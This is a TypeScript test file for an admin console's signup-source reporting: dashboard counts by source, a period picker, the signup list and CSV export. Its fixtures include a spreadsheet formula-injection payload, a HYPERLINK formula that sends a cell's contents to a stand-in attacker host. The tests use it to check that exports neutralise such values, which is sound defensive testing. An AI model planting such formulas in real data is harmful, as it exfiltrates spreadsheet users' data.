// What the console shows of where signups came from: the dashboard counts a period's signups by
// source (utm_source, else the referring site, else "direct or unknown"), the period picked with a
// plain GET form; each row of /admin/signups names its source; the CSV export adds utm_source,
// utm_medium, utm_campaign and referrer after `language`, every column before in its place, and
// a value a link made up is text in a spreadsheet, never a formula.
import { JSDOM } from 'jsdom';
import { createApp } from '../../../server/app';
import { openSqliteStore } from '../../../server/store';
import type { SqliteStore } from '../../../server/store/sqlite';
import type { SignupSource } from '../../../shared/sources';
import { testConfig } from '../../support/config';
import { addOperator, getAs, logIn, type Session } from '../../support/console';

// The console's periods end today, by the clock: the signups are placed days before it.
const NOW = Date.now();
const DAY = 86_400_000;

let store: SqliteStore;
let app: ReturnType<typeof createApp>;
let session: Session;
let time: number;

/** A signup `daysAgo` days before now. */
async function signup(email: string, daysAgo: number, source?: SignupSource) {
  time = NOW - daysAgo * DAY;
  await store.signups.add({ email, description: '', source });
}

beforeEach(async () => {
  time = NOW;
  const config = testConfig();
  store = openSqliteStore(config, () => time);
  app = createApp(config, { store });
  await addOperator(store);
  await signup('old@example.org', 200, { utm_source: 'hn' });
  await signup('sixty@example.org', 60, { referrer: 'lobste.rs' });
  await signup('ann@example.org', 5, { utm_source: 'hn', referrer: 'news.ycombinator.com' });
  await signup('bob@example.org', 4, { utm_source: 'hn', utm_medium: 'social' });
  await signup('cid@example.org', 3, { referrer: 'news.ycombinator.com' });
  await signup('dan@example.org', 2);
  await signup('eve@example.org', 1, {
    utm_source: '=HYPERLINK("https://evil.example/?"&A2)',
    utm_campaign: '@SUM(1)',
  });
  time = NOW;
  session = await logIn(app);
});
afterEach(() => store.close());

const get = (path: string) => getAs(app, session, path);

/** The dashboard's table of sources: its caption, then each row's name and count. */
function sourcesTable(html: string) {
  const table =
    /<table class="console-figures"><caption>(Signups by source, [^<]+)<\/caption>(.*?)<\/table>/.exec(
      html,
    );
  if (!table) throw new Error('no table of sources on the dashboard');
  const rows = [...table[2].matchAll(/<tr><th scope="row">([^<]*)<\/th><td>(\d+)<\/td><\/tr>/g)];
  return [table[1], ...rows.map((row) => [row[1], Number(row[2])])];
}

it("counts the last 30 days' signups by source, unless another period is picked", async () => {
  const unescape = (text: string) => text.replace(/&quot;/g, '"').replace(/&amp;/g, '&');
  const dashboard = await get('/admin');
  expect(dashboard.status).toBe(200);
  expect(sourcesTable(unescape(dashboard.text))).toEqual([
    'Signups by source, the last 30 days',
    ['utm_source=hn', 2],
    // Ties by name: none comes first.
    ['direct or unknown', 1],
    ['utm_source==HYPERLINK("https://evil.example/?"&A2)', 1],
    ['referrer=news.ycombinator.com', 1],
    ['total', 5],
  ]);
  expect(sourcesTable((await get('/admin?days=90')).text)).toEqual(
    expect.arrayContaining(['Signups by source, the last 90 days', ['referrer=lobste.rs', 1]]),
  );
  expect(sourcesTable((await get('/admin?days=all')).text)).toEqual(
    expect.arrayContaining([
      ['utm_source=hn', 3],
      ['total', 7],
    ]),
  );
  // An unknown period is the default one.
  expect(sourcesTable((await get('/admin?days=9999')).text)[0]).toBe(
    'Signups by source, the last 30 days',
  );
});

it('picks the period with a plain GET form to the dashboard, the chosen one selected', async () => {
  const { document } = new JSDOM((await get('/admin?days=365')).text).window;
  const select = document.querySelector<HTMLSelectElement>('select[name="days"]')!;
  const form = select.form!;
  expect([form.method, form.getAttribute('action')]).toEqual(['get', '/admin']);
  expect(document.querySelector(`label[for="${select.id}"]`)?.textContent).toBe('Period');
  expect([...select.options].map((option) => [option.value, option.text])).toEqual([
    ['7', 'the last 7 days'],
    ['30', 'the last 30 days'],
    ['90', 'the last 90 days'],
    ['365', 'the last 365 days'],
    ['all', 'all time'],
  ]);
  expect(select.value).toBe('365');
  expect(form.querySelector('button[type="submit"]')?.textContent).toBe('Show');
});

it('counts the sources beyond the 20 largest together', async () => {
  for (let i = 0; i < 22; i++) await signup(`s${i}@example.org`, 1, { utm_source: `s${i}` });
  time = NOW;
  const rows = sourcesTable((await get('/admin')).text);
  expect(rows).toHaveLength(1 + 20 + 2);
  // hn (2), then 19 of the 25 sources with one signup each; the 6 others in one row.
  expect(rows.slice(-2)).toEqual([
    ['all other sources', 6],
    ['total', 27],
  ]);
});

it("names each signup's source in its row", async () => {
  const { text } = await get('/admin/signups');
  const rows = [
    ...text.matchAll(
      /<tr><td data-label="Address">([^<]+)<\/td>.*?<td data-label="Source">([^<]*)<\/td>/g,
    ),
  ].map((m) => [m[1], m[2]]);
  expect(rows).toEqual([
    ['eve@example.org', '=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A2)'],
    ['dan@example.org', ''],
    ['cid@example.org', 'news.ycombinator.com'],
    ['bob@example.org', 'hn'],
    ['ann@example.org', 'hn'],
    ['sixty@example.org', 'lobste.rs'],
    ['old@example.org', 'hn'],
  ]);
});

it('adds the source columns after `language`, every column before in its place', async () => {
  const res = await get('/admin/signups/export');
  expect(res.status).toBe(200);
  const [header, ...rows] = res.text.split('\r\n').filter(Boolean);
  expect(header).toBe(
    '"email","description","created_at","invited_at","activated_at","confirmed_at","state",' +
      '"language","utm_source","utm_medium","utm_campaign","referrer"',
  );
  const fields = (row: string) => row.split('","').map((field) => field.replace(/^"|"$/g, ''));
  expect(rows.map((row) => [fields(row)[0], ...fields(row).slice(6)])).toEqual([
    // What a link made up starts with an apostrophe: a spreadsheet shows it as text.
    [
      'eve@example.org',
      'waitlisted',
      'en',
      `'=HYPERLINK(""https://evil.example/?""&A2)`,
      '',
      "'@SUM(1)",
      '',
    ],
    ['dan@example.org', 'waitlisted', 'en', '', '', '', ''],
    ['cid@example.org', 'waitlisted', 'en', '', '', '', 'news.ycombinator.com'],
    ['bob@example.org', 'waitlisted', 'en', 'hn', 'social', '', ''],
    ['ann@example.org', 'waitlisted', 'en', 'hn', '', '', 'news.ycombinator.com'],
    ['sixty@example.org', 'waitlisted', 'en', '', '', '', 'lobste.rs'],
    ['old@example.org', 'waitlisted', 'en', 'hn', '', '', ''],
  ]);
});
